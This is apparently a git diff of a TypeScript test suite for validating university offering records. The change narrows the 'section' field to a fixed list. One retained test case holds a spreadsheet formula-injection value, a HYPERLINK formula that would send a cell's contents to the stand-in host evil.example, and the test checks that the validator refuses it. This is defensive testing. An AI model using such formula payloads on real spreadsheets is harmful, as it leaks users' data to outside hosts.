@@ -15,6 +15,7 @@ import {
 import { missingOf, valueOf } from './result';
 import { admissionFields } from '../catalog';
 import { FORMULA_NAME_MESSAGE } from '../csv';
+import { OFFERING_SECTIONS, OFFERING_SECTION_MESSAGE } from '../offering-sections';
 
 const fullUniversity = {
   university_code: 'GUC',
@@ -158,25 +159,34 @@ describe('validateOffering', () => {
     ['no faculty', { ...base, faculty: ' ' }, [GUIDE_MESSAGES.requiredFaculty]],
     ['unknown code', { ...base, faculty_short: 'XYZ' }, [GUIDE_MESSAGES.facultyShort]],
     ['bad program type', { ...base, normal_or_Dual: 'both' }, [GUIDE_MESSAGES.normalOrDual]],
+    ['the legacy section "other" (issue 24)', { ...base, section: 'other' }, [OFFERING_SECTION_MESSAGE]],
+    ['a free-text section', { ...base, section: 'علمي علوم أو علمي رياضة' }, [OFFERING_SECTION_MESSAGE]],
+    ['a legacy code', { ...base, section: 'sports' }, [OFFERING_SECTION_MESSAGE]],
     [
-      'other section without text',
-      { ...base, section: 'other' },
-      [GUIDE_MESSAGES.requiredFaculty, GUIDE_MESSAGES.sectionCustom],
+      'other with its text',
+      { ...base, section: 'other', section_custom: 'رياضيات أو علوم' },
+      [OFFERING_SECTION_MESSAGE],
     ],
+    ['no section', { ...base, section: '' }, [GUIDE_MESSAGES.requiredFaculty]],
     ['bad score', { ...base, thanwyaa_firstYear_score: '120' }, [GUIDE_MESSAGES.score]],
     ['bad fee', { ...base, feesNatives2: 'غالي' }, [GUIDE_MESSAGES.fee]],
   ])('%s', (_n, input, messages) => {
     expect(problemsOf(validateOffering(input)).map((p) => p.message)).toEqual(messages);
   });
 
-  it('takes the custom section text and joins program lists with the Arabic comma', () => {
-    const r = validateOffering({
-      ...base,
-      section: 'other',
-      section_custom: 'رياضيات أو علوم',
-      programs: ['الطب', ' الجراحة '],
-    });
-    expect(valueOf(r).section).toBe('رياضيات أو علوم');
+  it.each(OFFERING_SECTIONS)('takes the section %s', (section) => {
+    expect(valueOf(validateOffering({ ...base, section })).section).toBe(section);
+  });
+
+  it('refuses a section outside the list beside the field, naming the choices', () => {
+    expect(problemsOf(validateOffering({ ...base, section: 'other' }))).toEqual([
+      { field: 'section', message: OFFERING_SECTION_MESSAGE },
+    ]);
+    expect(OFFERING_SECTION_MESSAGE).toContain('علمي علوم');
+  });
+
+  it('joins program lists with the Arabic comma', () => {
+    const r = validateOffering({ ...base, programs: ['الطب', ' الجراحة '] });
     expect(valueOf(r).programs).toBe('الطب، الجراحة');
   });
 });
@@ -194,12 +204,8 @@ describe('names that a spreadsheet would run (issue 20)', () => {
   it.each([
     ['faculty', '=HYPERLINK("http://evil.example/?d="&A2,"x")'],
     ['faculty', '+كلية'],
-    ['section_custom', '-1+1'],
   ])('an offering whose %s is %j is refused', (field, name) => {
-    const input =
-      field === 'section_custom'
-        ? { ...offering, section: 'other', section_custom: name }
-        : { ...offering, [field]: name };
+    const input = { ...offering, [field]: name };
     expect(problemsOf(validateOffering(input))).toEqual([{ field, message: FORMULA_NAME_MESSAGE }]);
   });
   it.each(['dorm', 'transport'] as const)('a %s whose type starts with @ is refused', (kind) => {
